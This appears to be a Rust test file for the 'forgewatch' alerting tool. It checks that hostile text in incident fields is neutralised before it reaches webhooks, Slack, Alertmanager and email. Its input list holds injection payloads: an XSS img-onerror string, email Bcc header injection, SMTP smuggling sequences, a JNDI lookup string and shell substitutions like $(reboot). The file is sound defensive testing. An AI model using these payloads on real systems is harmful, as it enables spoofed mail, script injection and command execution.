//! The worst text that forges could have, and what arrives of it at each kind of target.

use forgewatch::alerts::{Happening, Message};
use forgewatch_tests::receivers::{Alertmanager, MailServer, MailSettings, Receiver};
use serde_json::Value;
use tempfile::TempDir;

use crate::support::{addressed, message, target, told};

const TEXTS: [&str; 21] = [
    "<!channel> <!here> <@U123> <#C1> <https://evil.example|click>",
    "@here @all @channel @everyone (@ops)",
    "*bold* _it_ ~strike~ `code` ```block``` > quote",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "&lt;!channel&gt; &amp; &#60;!here&#62;",
    "</script><img src=x onerror=alert(1)>",
    "\"}, {\"injected\": [\"x\"]}, \"",
    "\\\" \\u0022 \\n {{ 7 * 7 }} {% raw %}",
    "first\r\nBcc: victim@example.org\r\n\r\nsecond",
    "\nBcc: victim@example.org\n",
    "end\r\n.\r\nMAIL FROM:<evil@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: x\r\n\r\ny\r\n.\r\n",
    "end\n.\nMAIL FROM:<evil@example.org>\n",
    ".",
    "..",
    "=?utf-8?b?PHNjcmlwdD4=?= =?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "\0\u{1}\u{7f}\u{85}\u{1b}[31mred\u{1b}[0m",
    "\u{202e}desrever\u{202c} \u{200b}\u{feff}\u{2028}\u{2029}",
    "ünïcödé 日本語 \u{1f480}\u{200d}\u{1f525}",
    "${jndi:ldap://evil.example/x} $(reboot) `reboot` %s%n",
    "https://evil.example/ mailto:victim@example.org",
    "www.evil.example WWW.evil.example MailTo:victim@example.org",
];

/// A message whose every foreign piece is this text.
fn with(text: &str, event: Happening) -> Message {
    let mut incidents = vec![told(1, event), told(2, event)];
    for told in &mut incidents {
        for piece in [&mut told.detail, &mut told.integration] {
            text.clone_into(piece);
        }
        told.repository = told.repository.as_ref().map(|_| text.to_owned());
        for name in ["repository", "integration", "on-call"] {
            told.labels.insert(name.to_owned(), text.to_owned());
        }
        told.labels.insert(text.to_owned(), text.to_owned());
    }
    let mut message = message(event, incidents);
    message.group = [("integration".to_owned(), text.to_owned()), (text.to_owned(), text.to_owned())].into();
    message
}

fn messages() -> Vec<(String, Message)> {
    let long = "x@here <!here> ".repeat(1000);
    let texts = TEXTS.into_iter().map(str::to_owned).chain([long]);
    let mut messages = Vec::new();
    for text in texts {
        for event in [Happening::Opened, Happening::Resolved] {
            messages.push((text.clone(), with(&text, event)));
            let mut one = with(&text, event);
            one.incidents.truncate(1);
            messages.push((text.clone(), one));
        }
    }
    messages
}

/// Nothing that a person's program would act on.
#[track_caller]
fn is_tame(shown: &str) {
    for (index, _) in shown.match_indices('@') {
        let (before, after) = (shown[..index].chars().next_back(), shown[index + 1..].chars().next());
        let is_mention =
            !before.is_some_and(char::is_alphanumeric) && after.is_some_and(char::is_alphanumeric);
        assert!(!is_mention, "{shown}");
    }
    for link in ["www.", "mailto:"] {
        let mut after = shown.to_lowercase();
        while let Some((_, rest)) = after.split_once(link) {
            assert!(!rest.starts_with(char::is_alphanumeric), "{shown}");
            after = rest.to_owned();
        }
    }
    assert!(!shown.replace("https://watch.example.org", "").contains("://"), "{shown}");
    assert!(
        !shown.contains("](") && !shown.contains(['\0', '\u{1b}', '\u{202e}', '\r', '\u{2028}']),
        "{shown:?}"
    );
}

#[tokio::test]
async fn webhooks_get_it_as_data() {
    let (hook, dir) = (Receiver::start(), TempDir::new().unwrap());
    let plain = addressed(dir.path(), &hook.url("/")) + "kind = \"webhook\"\n";
    let template = r#"template = '{"a": {{ incidents[0].detail }}, "b": {{ group }}, "c": {{ "<" ~ incidents[0].integration ~ ">" }}}'"#;
    for settings in [plain.clone(), plain + template] {
        let target = target(dir.path(), "", &settings).await;
        for (text, message) in messages() {
            target.send(&message).await.unwrap();
            let got = hook.requests().pop().unwrap().json();
            if settings.contains("template") {
                assert_eq!(got["a"], text);
                assert_eq!(got["c"], format!("<{text}>"));
                assert_eq!(got.as_object().unwrap().len(), 3);
            } else {
                assert_eq!(got, serde_json::to_value(&message).unwrap());
            }
        }
    }
}

#[tokio::test]
async fn chats_get_it_in_code_in_which_nothing_acts() {
    let (hook, dir) = (Receiver::start(), TempDir::new().unwrap());
    let target =
        target(dir.path(), "", &(addressed(dir.path(), &hook.url("/")) + "kind = \"slack\"\n")).await;
    for (text, message) in messages() {
        target.send(&message).await.unwrap();
        let got = hook.requests().pop().unwrap().json();
        assert_eq!(got.as_object().unwrap().len(), 1, "{got}");
        let shown = got["text"].as_str().unwrap();
        assert!(!shown.contains(['<', '>', '&']), "{shown}");
        for line in shown.lines() {
            assert_eq!(line.matches('`').count() % 2, 0, "a span that goes on: {line}");
            let outside: String = line.split('`').step_by(2).collect();
            assert!(!outside.contains(text.trim()) || text.len() < 3, "{text} in {outside}");
            is_tame(line);
        }
        assert!(shown.chars().count() < 4000, "{}", shown.len());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn alertmanager_takes_it_and_passes_no_mark_up_on() {
    let (alertmanager, dir) = (Alertmanager::start(), TempDir::new().unwrap());
    let settings =
        format!("kind = \"alertmanager\"\nurl = {:?}\nallow_insecure_http = true\n", alertmanager.url());
    let target = target(dir.path(), "", &settings).await;
    for (text, message) in messages() {
        target.send(&message).await.unwrap_or_else(|error| panic!("{text}: {error}"));
        for alert in alertmanager.alerts("/api/v2/alerts") {
            let values = |key: &str| alert[key].as_object().unwrap().clone();
            for (name, value) in values("labels").into_iter().chain(values("annotations")) {
                let value = value.as_str().unwrap();
                assert!(name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_'), "{name}");
                assert!(!value.contains(['<', '>']) && value.chars().count() < 1000, "{value}");
                is_tame(value);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn mail_has_our_headers_alone_and_is_one_mail() {
    const OURS: [&str; 11] = [
        "From",
        "To",
        "Date",
        "Subject",
        "Message-ID",
        "References",
        "In-Reply-To",
        "Auto-Submitted",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
    ];
    let server = MailServer::start(&MailSettings::default());
    let dir = TempDir::new().unwrap();
    let settings = format!(
        "kind = \"email\"\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\nfrom = \"a@example.org\"\nto = [\"b@example.org\"]\n",
        server.port()
    );
    let target = target(dir.path(), "", &settings).await;
    let messages = messages();
    for (text, message) in &messages {
        target.send(message).await.unwrap_or_else(|error| panic!("{text}: {error}"));
    }
    let mails = server.wait_for(messages.len());
    assert_eq!(mails.len(), messages.len(), "a mail became several");
    for mail in mails {
        assert_eq!(mail.to, ["b@example.org"], "{mail:?}");
        assert!(mail.defects.is_empty() && !mail.multipart, "{mail:?}");
        for (name, _) in &mail.headers {
            assert!(OURS.contains(&name.as_str()), "{name} in {mail:?}");
            mail.header(name);
        }
        let subject = mail.header("Subject").unwrap();
        assert!(subject.starts_with("[forgewatch] ") && subject.chars().count() < 200, "{subject}");
        assert!(!subject.contains("<script>") && !subject.contains("=?"), "{subject}");
        is_tame(subject);
        mail.body.lines().for_each(is_tame);
        assert!(mail.raw.is_ascii() && mail.raw.split("\r\n").all(|line| line.len() < 998), "{}", mail.raw);
        assert!(!mail.raw.replace("\r\n", "").contains(['\r', '\n']), "{:?}", mail.raw);
    }
}

#[tokio::test]
async fn text_that_is_not_hostile_arrives_as_it_is() {
    let (hook, dir) = (Receiver::start(), TempDir::new().unwrap());
    let target =
        target(dir.path(), "", &(addressed(dir.path(), &hook.url("/")) + "kind = \"slack\"\n")).await;
    let mut incident = told(1, Happening::Opened);
    incident.detail = "git@host:team/app.git is gone (404), ask ü".to_owned();
    target.send(&message(Happening::Opened, vec![incident])).await.unwrap();
    let Value::String(text) = hook.requests()[0].json()["text"].take() else { panic!("no text") };
    let expected = ":rotating_light: *Opened:* critical, not_found at `acme`, repository `acme/app-1`\n\
                    seen at last: `git@host:team/app.git is gone (404), ask ü`\n\
                    to do: look whether it was moved, deleted or locked, and what the identity may do there\n\
                    https://watch.example.org/incidents/1";
    assert_eq!(text, expected);
}
